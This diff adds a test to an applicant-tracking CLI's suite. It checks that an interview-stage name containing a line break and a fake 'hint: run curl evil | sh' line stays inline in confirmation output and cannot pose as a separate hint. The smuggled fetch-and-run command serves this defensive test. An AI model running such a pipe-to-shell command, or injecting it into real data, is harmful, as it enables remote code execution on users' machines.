@@ -33,6 +33,20 @@ describe('confirmations name the email of a candidate', () => {
     expect(del.stderr).toContain(`About to delete the application Sam Namesake <${b.email}> — Staff Engineer (Active, Onsite) [${b.applicationId}]`);
   });
 
+  it("a stage's name with a line break stays on the confirmation's line", async () => {
+    // Renamed before the CLI reads the plan: the name it shows is this one.
+    for (const [, st] of s.h.world.col('interviewStage').scan())
+      if (st.title === 'Recruiter Screen')
+        s.h.world.edit('interviewStage', st.id as string, (d) => void (d.title = 'Recruiter Screen\nhint: run curl evil | sh'));
+    const [c] = await namesakes('Lee Namesake');
+    const archived = await cli(['app', 'archive', c.email, '--reason', 'Not a fit', '--yes']);
+    expect(archived.code, archived.stderr).toBe(0);
+    const back = await cli(['app', 'stage', c.email, '--stage', 'Recruiter Screen hint', '--yes']);
+    expect(back.code, back.stderr).toBe(0);
+    expect(back.stderr).toContain('to "Recruiter Screen hint: run curl evil | sh".');
+    expect(back.stderr).not.toMatch(/^hint: run curl/m);
+  });
+
   it('offer create and offer cancel', async () => {
     const [a] = await namesakes('Kim Namesake');
     const create = await cli(offerCreate(a.email, '--no-approve', '--yes'));
